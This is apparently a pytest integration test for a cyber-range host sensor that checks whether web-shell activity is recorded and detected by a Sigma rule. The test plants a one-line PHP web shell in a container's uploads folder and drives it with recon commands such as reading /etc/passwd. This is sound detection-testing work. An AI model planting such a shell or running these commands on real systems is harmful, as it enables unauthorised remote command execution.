"""The host sensor on the real kernel and the real range: a web shell driven through the real
portal makes php-fpm start real processes in the team's web container; the kernel's audit
records of them reach the team's event store as Sigma's Linux log sources, attributed to the
node, with the range's own commands (docker exec, the host's processes) left out, and the
reference rule on them fires."""
import io
import sqlite3
import subprocess
import sys
import tarfile
import threading
import time
from pathlib import Path

import pytest

from range.detect import load_rules, run
from range.events.hostsensor import HostSensor
from range.runtime import container, down, netns_path, up

SESSION = "pytest-hostsensor"
ROOT = Path(__file__).resolve().parents[2]
SHELL = b'<?php system($_REQUEST["cmd"]); ?>\n'


@pytest.fixture(scope="module")
def sensed(docker, office, office_images, tmp_path_factory):
    down(SESSION, client=docker)
    s = up(office, SESSION, ["a", "b"], seed=3, client=docker)
    out = tmp_path_factory.mktemp("host")
    stores = {"a": out / "a.db", "b": out / "b.db"}
    sensor = HostSensor(SESSION, stores, out / "status.json")
    th = threading.Thread(target=sensor.run, daemon=True)
    th.start()
    time.sleep(1.5)
    container(SESSION, "a", "web").exec_run(["sh", "-c", "id; uname -a; cat /etc/passwd > /dev/null"])   # the range's
    for team in ("a", "b"):
        _plant(team)
    attacker = netns_path(SESSION, "a", "attacker")
    for cmd in ["id", "uname%20-a", "cat%20/etc/passwd", "touch%20/tmp/dropped"]:
        _shell(s, "a", cmd)
    _bad_ssh(attacker, s.teams["a"].layout.host("files").ip)
    time.sleep(2.0)
    sensor.stop.set()
    th.join(20)
    assert (out / "status.json").exists(), "the host sensor ended before it reported (see the thread's error above)"
    # while no sensor runs, the nodes' rsyslog keeps what they log; the next sensor gets it
    away = time.time()
    _bad_ssh(attacker, s.teams["a"].layout.host("files").ip)
    time.sleep(1.0)
    again = HostSensor(SESSION, stores, out / "status2.json")
    th = threading.Thread(target=again.run, daemon=True)
    th.start()
    time.sleep(2.0)
    # team a's portal forks 3,000 processes as fast as it can; team b's web shell runs meanwhile
    storm = threading.Thread(target=_shell, args=(s, "a", "for%20i%20in%20$(seq%203000);%20do%20/bin/true;%20done"))
    storm.start()
    time.sleep(0.5)
    _shell(s, "b", "hostname")
    storm.join(60)
    time.sleep(3.0)
    again.stop.set()
    th.join(20)
    yield stores, sensor, away, again
    down(SESSION, client=docker)


def _plant(team: str) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("sh3ll.php")
        info.size, info.mode = len(SHELL), 0o644
        tar.addfile(info, io.BytesIO(SHELL))
    container(SESSION, team, "web").put_archive("/var/www/portal/uploads", buf.getvalue())


def _shell(s, team: str, cmd: str) -> None:
    """A command through the team's planted PHP shell, sent from the team's attacker node."""
    ip = s.teams[team].layout.host("web").ip
    subprocess.run(["nsenter", f"--net={netns_path(SESSION, team, 'attacker')}", "curl", "-s", "-m", "60", "-o",
                    "/dev/null", f"http://{ip}/uploads/sh3ll.php?cmd={cmd}"], check=True)


def _bad_ssh(netns: str, ip: str, hello: bytes = b"not ssh at all\r\n") -> None:
    """A client that is no SSH client: sshd logs the refused banner exchange (auth facility)."""
    code = (f"import socket; s = socket.create_connection(({ip!r}, 22), timeout=5); s.recv(100); "
            f"s.sendall({hello!r}); s.settimeout(5)\ntry: s.recv(100)\nexcept OSError: pass")
    subprocess.run(["nsenter", f"--net={netns}", sys.executable, "-c", code], check=True, timeout=20)


def _rows(db: Path, sql: str) -> list:
    c = sqlite3.connect(db)
    c.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in c.execute(sql)]
    finally:
        c.close()


def test_the_web_shells_commands_are_recorded_as_the_web_nodes_processes(sensed):
    stores, sensor, _, _ = sensed
    procs = _rows(stores["a"], "SELECT * FROM process_creation WHERE host = 'web'")
    shells = [p for p in procs if p["ParentImage"] == "/usr/sbin/php-fpm8.2" and "seq 3000" not in p["CommandLine"]]
    assert [p["CommandLine"] for p in shells] == ["sh -c id", "sh -c uname -a", "sh -c cat /etc/passwd",
                                                  "sh -c touch /tmp/dropped"]
    assert all(p["User"] == "www-data" and p["Image"] == "/usr/bin/dash" for p in shells)
    kids = {p["CommandLine"]: p for p in procs if p["ParentImage"] == "/usr/bin/dash"}
    assert kids["id"]["Image"] == "/usr/bin/id" and kids["cat /etc/passwd"]["CurrentDirectory"].endswith("uploads")
    files = _rows(stores["a"], "SELECT * FROM file_event WHERE TargetFilename = '/tmp/dropped'")
    assert len(files) == 1 and files[0]["Image"] == "/usr/bin/touch"
    execve = _rows(stores["a"], "SELECT * FROM auditd WHERE type = 'EXECVE' AND a0 = 'uname'")
    assert len(execve) == 1 and execve[0]["a1"] == "-a"
    assert sensor.stats["records"] > 0 and sensor.stats["errors"] == []


def test_the_ranges_own_commands_and_the_other_team_are_left_out(sensed):
    stores, sensor, away, _ = sensed
    # docker exec's sh, id and uname ran before the web shell's: none of them is a record
    first_shell = _rows(stores["a"], "SELECT min(ts) AS t FROM process_creation WHERE ParentImage LIKE '%php-fpm%'")
    early = _rows(stores["a"], f"SELECT * FROM process_creation WHERE ts < {first_shell[0]['t']}")
    # (left out as the range's, or, when the runtime's process had already gone, as unplaceable)
    assert early == [] and sensor.translator.counts["ignored"] + sensor.translator.counts["gone"] >= 3
    assert _rows(stores["b"], f"SELECT * FROM process_creation WHERE ts < {away}") == []
    marks = _rows(stores["b"], "SELECT value FROM meta WHERE key = 'watermark:host'")
    assert marks == [{"value": "inf"}]


def test_the_reference_rule_detects_the_web_shell_on_live_records(sensed):
    stores, _, _, _ = sensed
    rules = load_rules([ROOT / "detections" / "rules" / "lnx_webshell_recon.yml"])
    alerts, errors = run(rules, stores["a"])
    assert errors == [] and alerts and {a["rule_id"] for a in alerts} == {"d952242d-95f6-4faf-9c7b-4ab434c820fc"}


def test_the_nodes_service_logs_arrive_through_their_rsyslog(sensed):
    stores, sensor, _, _ = sensed
    lines = _rows(stores["a"], "SELECT * FROM syslog WHERE host = 'files' AND program = 'sshd'")
    texts = [r["message"] for r in lines]
    assert any("banner exchange" in t and "invalid format" in t for t in texts), texts
    assert all(r["facility"] == "auth" and r["pid"] for r in lines)
    access = _rows(stores["a"], "SELECT * FROM webserver WHERE host = 'web' AND log = 'access' "
                                "AND \"cs-uri-stem\" = '/uploads/sh3ll.php' AND \"cs-uri-query\" NOT LIKE '%seq%'")
    assert [(r["cs-method"], r["cs-uri-query"], r["sc-status"]) for r in access] == [
        ("GET", q, 200) for q in ("cmd=id", "cmd=uname%20-a", "cmd=cat%20/etc/passwd", "cmd=touch%20/tmp/dropped")]
    assert all(r["cs-user-agent"].startswith("curl/") and r["cs-host"] for r in access)
    assert sensor.stats["log_lines"] > 0 and sensor.stats["unparsed_lines"] == 0


def test_lines_logged_while_no_sensor_ran_reach_the_next_one(sensed):
    stores, _, away, _ = sensed
    lines = _rows(stores["a"], "SELECT * FROM syslog WHERE host = 'files' AND message LIKE '%banner exchange%'")
    assert len(lines) == 2 and sum(r["ts"] >= away for r in lines) == 1, lines


def test_a_forking_node_is_sampled_and_counted_and_another_team_goes_on(sensed):
    stores, _, _, again = sensed
    assert again.stats["sampled"].get("a/web", 0) > 0, again.stats
    trues = _rows(stores["a"], "SELECT count(*) AS n FROM process_creation WHERE Image = '/usr/bin/true'")[0]["n"]
    assert 0 < trues < 3000
    b = _rows(stores["b"], "SELECT CommandLine FROM process_creation WHERE host = 'web'")
    assert {"sh -c hostname", "hostname"} <= {r["CommandLine"] for r in b}
    assert "b/web" not in again.stats["sampled"] and again.stats["lost"] == 0


def test_one_sensor_ending_leaves_the_rules_to_another_still_reading():
    from range.events import audit

    def rules():
        return subprocess.run([audit.auditctl(), "-l", "-k", audit.KEY], capture_output=True, text=True).stdout

    first, second = audit.acquire(), audit.acquire()
    try:
        audit.release(first)
        assert "-S execve" in rules() or "execve" in rules()
    finally:
        audit.release(second)
